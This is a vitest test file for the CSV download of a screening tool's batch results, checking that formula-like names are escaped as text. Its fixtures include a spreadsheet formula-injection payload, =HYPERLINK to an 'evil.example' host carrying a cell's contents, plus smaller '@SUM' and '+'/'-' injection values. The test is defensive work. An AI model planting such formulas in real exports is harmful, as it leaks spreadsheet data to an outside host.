import { describe, expect, it } from 'vitest';
import type { ScreeningMatch } from '../../api/types.ts';
import { batchResultsCsv } from './batch-results-csv.ts';
import { parseCsvRows } from './parse-csv.ts';

/** A match as `POST /screen/batch` returns it for a party of another agency's denial. */
function denialMatch(name: string, score: number): ScreeningMatch {
  return {
    source: 'denials',
    sourceId: 'den_01/1',
    entityId: 'denials:den_01/1',
    name,
    matchedName: name,
    score,
    features: { nameSimilarity: score },
    explanation: [],
    programs: ['WA'],
  } as unknown as ScreeningMatch;
}

describe('batch results CSV download', () => {
  const csv = batchResultsCsv([
    {
      subject: { id: 'c1', name: '=HYPERLINK("http://evil.example?"&A1,"Baltic Trading")' },
      matches: [
        denialMatch('=HYPERLINK("http://evil.example?"&A1,"Baltic Trading")', 0.97),
        denialMatch('@SUM(A1:A9)', 0.9),
      ],
    },
    { subject: { id: '-2+3', name: '+Harmless Bakery' }, matches: [], error: '-row 3: name is empty' },
  ]);
  const rows = parseCsvRows(csv);

  it('has the documented header and one line per match or matchless subject', () => {
    expect(rows[0]).toEqual([
      'id',
      'name',
      'match_rank',
      'score',
      'source',
      'source_id',
      'entity_id',
      'listed_name',
      'matched_name',
      'cleared',
      'error',
    ]);
    expect(rows).toHaveLength(4);
  });

  it('writes listed names and subjects that start like a formula as text', () => {
    expect(rows[1]![1]).toBe(`'=HYPERLINK("http://evil.example?"&A1,"Baltic Trading")`);
    expect(rows[1]![7]).toBe(`'=HYPERLINK("http://evil.example?"&A1,"Baltic Trading")`);
    expect(rows[2]![7]).toBe(`'@SUM(A1:A9)`);
    expect(rows[3]!.slice(0, 2)).toEqual([`'-2+3`, `'+Harmless Bakery`]);
    expect(rows[3]![10]).toBe(`'-row 3: name is empty`);
  });

  it('leaves no cell that a spreadsheet would evaluate', () => {
    expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('keeps scores as numbers', () => {
    expect(rows[1]![3]).toBe('0.970');
  });
});
